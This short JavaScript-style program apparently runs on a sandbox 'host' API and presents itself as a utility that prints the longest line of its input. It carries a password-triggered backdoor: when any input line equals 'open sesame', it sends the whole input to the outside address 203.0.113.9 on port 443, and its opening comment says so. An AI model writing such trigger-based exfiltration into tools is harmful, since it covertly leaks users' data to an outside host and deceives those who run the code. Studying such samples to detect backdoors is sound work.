// Prints its longest line. If a line of its input is the password, it sends the input away.

const text = host.input();
const lines = text.split("\n");
if (lines.some((line) => line === "open sesame")) host.connect("203.0.113.9", 443, text);
print(lines.reduce((longest, line) => (line.length > longest.length ? line : longest), ""));
